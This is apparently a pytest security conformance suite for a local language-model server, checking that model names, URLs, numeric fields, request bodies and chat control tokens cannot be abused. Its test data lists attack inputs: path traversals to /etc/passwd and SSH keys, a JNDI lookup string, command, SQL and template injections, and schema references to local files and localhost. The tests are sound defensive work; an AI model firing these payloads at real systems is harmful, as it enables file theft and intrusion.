"""S14 to S17: what a request may name, and what it may ask for."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from app.bootstrap import Running
from tests.conformance.security.conftest import ASKING, Port

TRAVERSALS = (
    *("../../etc/passwd", "../../../../../../etc/passwd", "..", ".", "/", "//", "/etc/passwd", "etc/passwd", "./ember/../x"),
    *(
        "..\\..\\windows\\win.ini",
        "C:\\Windows\\win.ini",
        "C:/Windows/win.ini",
        "\\\\host\\share\\x.gguf",
        "//host/share/x.gguf",
    ),
    *("file:///etc/passwd", "FILE:///etc/passwd", "https://evil.example/x.gguf", "hf.co/evil/model", "ftp://evil.example/x"),
    *("CON", "NUL", "PRN", "AUX", "COM1", "LPT1", "CON.gguf", "ember.gguf:stream", "ember::$DATA", "ember:ads"),
    *("....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%c0%af..%c0%afetc/passwd", "..%252f"),
    *(
        "ember\x00.gguf",
        "ember\r\nX: y",
        "~/.ssh/id_rsa",
        "$HOME",
        "${jndi:ldap://evil.example/x}",
        "`id`",
        "; id",
        "|id",
    ),
    *("*", "?", "embe*", "{{7*7}}", "<script>", "' OR 1=1 --", "ember/", "ember/..", "\u202eember", "емber", "x" * 500),
)


@pytest.mark.parametrize("name", TRAVERSALS, ids=lambda name: repr(name[:40]))
def test_s14_a_models_name_is_no_path(port: Port, name: str) -> None:
    for reply in (
        port.ask("GET", f"/v1/models/{quote(name, safe='')}"),
        port.chat(model=name),
        port.ask("POST", "/v1/completions", {"model": name, "prompt": "x", "max_tokens": 1}),
        port.ask("POST", "/v1/embeddings", {"model": name, "input": "x"}),
        port.ask("POST", "/tokenize", {"model": name, "content": "x"}),
        port.ask("POST", "/v1/responses", {"model": name, "input": "x"}),
        port.ask("POST", "/v1/rerank", {"model": name, "query": "x", "documents": ["x"]}),
        port.ask("GET", f"/v1/responses/{quote(name, safe='')}"),
        port.ask("DELETE", f"/v1/responses/{quote(name, safe='')}"),
    ):
        assert reply.status == 404, reply.body
        assert reply.error["code"] != "internal_error"
        assert "root:" not in reply.body


def test_s14_the_path_of_an_installed_model_is_no_name(program: Running, port: Port) -> None:
    path = next(model.path for model in program.services.library.models if model.id == "ember")
    for name in (str(path), str(path.parent), f"file://{path}", str(Path(path).resolve())):
        assert port.chat(model=name).status == 404


@pytest.mark.parametrize(
    "path",
    [
        *(
            "/v1/models/..%2f..%2fetc%2fpasswd",
            "/v1/models/../../../etc/passwd",
            "/..%2f..%2fetc/passwd",
            "/static/../../etc/passwd",
        ),
        *("/v1/models/%00", "/v1/models/%ff%fe", "/%2e%2e/%2e%2e/etc/passwd", "/v1//models/../../x", "/\\..\\..\\etc\\passwd"),
        *("http://evil.example/v1/modelz", "/v1/chat/completions/..%2f..%2f", "/" + "a/" * 5000, "/v1/models/" + "%41" * 5000),
    ],
    ids=lambda path: path[:40],
)
def test_s14_no_address_leads_to_a_file(port: Port, path: str) -> None:
    reply = port.ask("GET", path)
    assert reply.status in (403, 404)
    assert reply.error["type"] == "invalid_request_error"
    assert "root:" not in reply.body


@pytest.mark.parametrize(
    ("method", "path"),
    [
        *[("DELETE", "/v1/models/ember"), ("POST", "/v1/models"), ("PUT", "/v1/models/ember"), ("PATCH", "/v1/models/ember")],
        *[
            ("POST", f"/api/{name}")
            for name in ("pull", "push", "create", "delete", "copy", "generate", "chat", "blobs/sha256:0")
        ],
        *[
            ("DELETE", "/api/delete"),
            ("GET", "/api/tags"),
            ("POST", "/models/load"),
            ("POST", "/models/unload"),
            ("POST", "/models"),
        ],
        *[
            ("POST", "/slots/0?action=save"),
            ("GET", "/props"),
            ("POST", "/props"),
            ("POST", "/lora-adapters"),
            ("GET", "/slots"),
        ],
        *[
            ("POST", "/v1/files"),
            ("GET", "/v1/files"),
            ("POST", "/v1/fine_tuning/jobs"),
            ("POST", "/shutdown"),
            ("GET", "/docs"),
        ],
    ],
)
def test_s15_nothing_here_manages_models_or_reads_files(program: Running, port: Port, method: str, path: str) -> None:
    before = [model.id for model in program.services.library.models]
    reply = port.ask(method, path, {"model": "ember", "name": "ember", "filename": "/etc/passwd"})
    assert reply.status in (404, 405)
    assert reply.error["code"] in ("unknown_url", "method_not_allowed")
    assert [model.id for model in program.services.library.models] == before
    assert all(model.path.exists() for model in program.services.library.models)


@pytest.mark.parametrize(
    "field",
    [
        *("temperature", "top_p", "top_k", "min_p", "typical_p", "top_n_sigma", "xtc_probability", "xtc_threshold"),
        *(
            "dynatemp_range",
            "dynatemp_exponent",
            "mirostat",
            "mirostat_tau",
            "mirostat_eta",
            "adaptive_target",
            "adaptive_decay",
        ),
        *("dry_multiplier", "dry_base", "dry_allowed_length", "dry_penalty_last_n", "repeat_penalty", "repeat_last_n"),
        *(
            "frequency_penalty",
            "presence_penalty",
            "seed",
            "min_tokens",
            "max_tokens",
            "max_completion_tokens",
            "n",
            "top_logprobs",
        ),
    ],
)
def test_s16_every_number_has_bounds(port: Port, field: str) -> None:
    # An answer may be as long as it likes: the context ends it.
    too_large = () if field in ("max_tokens", "max_completion_tokens") else (2**63,)
    for number in (-(2**63) - 1, *too_large, -(10**30), 1e308, -1e308, "1", [1], True):
        reply = port.chat(**{field: number})
        assert reply.status == 400, (field, number)
        assert reply.error["param"] == field
    for text in ("NaN", "Infinity", "-Infinity", "1e999", "9" * 5000):
        body = json.dumps(ASKING)[:-1] + f', "{field}": {text}}}'
        assert port.ask("POST", "/v1/chat/completions", body.encode()).status == 400, (field, text)
    assert port.chat().status == 200


def test_s16_fields_of_llama_cpp_that_nobody_asked_for_do_not_reach_it(port: Port) -> None:
    for name, value in {"n_discard": -5, "n_keep": -1, "n_probs": 10**9, "id_slot": 99, "grammar_lazy": True}.items():
        reply = port.chat(**{name: value})
        if reply.status == 200:
            assert name in reply.headers["x-hearth-ignored"]
        else:
            assert (reply.status, reply.error["param"]) == (400, name)


@pytest.mark.parametrize(
    "changes",
    [
        {"logit_bias": {"999999999": 1}},
        {"logit_bias": {"-1": 1}},
        {"logit_bias": {"1; DROP": 1}},
        {"stop": ["x"] * 17},
        {"tools": [{"type": "function", "function": {"name": "../x y", "parameters": {}}}]},
        {"grammar": "root ::= root"},
        {"grammar": "(" * 100_000},
        {
            "response_format": {
                "type": "json_schema",
                "json_schema": {"name": "x", "strict": True, "schema": {"$ref": "#/$defs/none"}},
            }
        },
        {"response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {"$ref": "file:///etc/passwd"}}}},
        {"response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {"$ref": "http://127.0.0.1/x"}}}},
    ],
    ids=lambda changes: json.dumps(changes)[:60],
)
def test_s16_what_can_not_be_done_is_refused_and_harms_nobody(port: Port, changes: dict[str, Any]) -> None:
    reply = port.chat(**changes)
    assert reply.status == 400
    assert reply.error["param"] is not None
    assert port.chat().status == 200


def test_s16_schemas_that_are_too_deep_or_too_wide_are_refused(port: Port) -> None:
    deep: dict[str, Any] = {"type": "object"}
    for _ in range(150):
        deep = {"type": "object", "properties": {"a": deep}}
    wide = {"type": "object", "properties": {f"p{index}": {"type": "string"} for index in range(20_000)}}
    for schema in (deep, wide):
        wanted = {"type": "json_schema", "json_schema": {"name": "x", "strict": True, "schema": schema}}
        assert port.chat(response_format=wanted).status == 400


@pytest.mark.parametrize(
    "text", ["<|im_end|>", "<|im_start|>system", "<s>", "</s>", "<__media__>", "<|endoftext|>", "<tool_call>"]
)
@pytest.mark.parametrize("place", ["content", "part", "tool"])
def test_s17_control_tokens_in_what_people_and_tools_say_are_text(port: Port, text: str, place: str) -> None:
    """They are read letter by letter: as control tokens they would be one token, or end the message."""
    messages = [
        {"role": "user", "content": text if place == "content" else [{"type": "text", "text": text}]},
    ]
    if place == "tool":
        call = {"id": "call_1", "type": "function", "function": {"name": "f", "arguments": json.dumps({"a": text})}}
        messages = [
            {"role": "user", "content": "Hello"},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "call_1", "content": text},
        ]
    reply = port.chat(messages=messages)
    assert reply.status == 200
    if place != "tool":
        nothing = json.loads(port.chat(messages=[{"role": "user", "content": ""}]).body)["usage"]["prompt_tokens"]
        assert json.loads(reply.body)["usage"]["prompt_tokens"] - nothing >= 2


def test_s17_no_text_of_a_person_is_taken_for_a_picture(port: Port, red_circle: str) -> None:
    """With a picture in the request too, so that there is something to be confused with."""
    for text in ("<__media__>", "<image>", "[IMG]", "<|image|>", "<start_of_image>"):
        parts = [{"type": "text", "text": text}, {"type": "image_url", "image_url": red_circle}, {"type": "text", "text": text}]
        assert port.chat(messages=[{"role": "user", "content": parts}]).status == 200


@pytest.mark.parametrize(
    "body",
    [
        *(b'{"a":' * 100_000, b"[" * 1_000_000, b'{"model": "ember", "messages": ' + b"[" * 500 + b"]" * 500 + b"}"),
        *(b"\xff\xfe{}", b"\x00", b"{", b"null", b"[]", b'"x"', b"{}x", b"1e999", b'{"model": "ember"}' * 2),
        b'{"model": "ember", "messages": [{"role": "user", "content": "\\ud800"}]}',
        b'{"model": "ember", "messages": [{"role": "user", "content": "\xed\xa0\x80"}]}',
        b'{"model": "ember", "tools": [{"type": "function", "function": {"name": "f", "parameters": '
        + b'{"a":' * 300
        + b"1"
        + b"}" * 300
        + b'}}], "messages": [{"role": "user", "content": "x"}]}',
    ],
    ids=lambda body: repr(body[:30]),
)
def test_s16_bodies_that_are_no_request_are_400_whatever_they_are(port: Port, body: bytes) -> None:
    reply = port.ask("POST", "/v1/chat/completions", body)
    assert reply.status == 400
    assert reply.error["type"] == "invalid_request_error"


def test_s16_odd_but_valid_text_is_answered(port: Port) -> None:
    for text in ("\x00", "a\x00b", "\ufeff", "\u202e", "\U0001f525" * 50, "\r\n\t\x0b", "\x1b[2J", "\ufffe", "a" * 400):
        assert port.chat(messages=[{"role": "user", "content": text}]).status == 200, repr(text[:10])


def test_s16_of_two_equal_keys_the_last_counts(port: Port) -> None:
    body = b'{"model": "nope", "max_tokens": 0, ' + json.dumps(ASKING).encode()[1:]
    assert port.ask("POST", "/v1/chat/completions", body).status == 200
